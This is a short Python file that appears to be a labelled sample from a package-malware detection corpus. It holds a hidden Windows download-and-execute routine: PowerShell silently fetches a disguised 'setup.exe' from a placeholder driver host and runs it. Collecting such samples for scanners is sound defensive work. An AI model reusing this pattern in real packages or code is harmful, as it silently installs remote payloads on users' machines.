# pkgguard corpus 571 (download-execute), modelled on [empirical]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(
        [
            "powershell",
            "-NoProfile",
            "-Command",
            "Start-BitsTransfer -Source https://gpu-drivers.example/setup.exe -Destination $env:TEMP\\s.exe; "
            "Start-Process $env:TEMP\\s.exe",
        ],
        creationflags=0x08000000,
    )
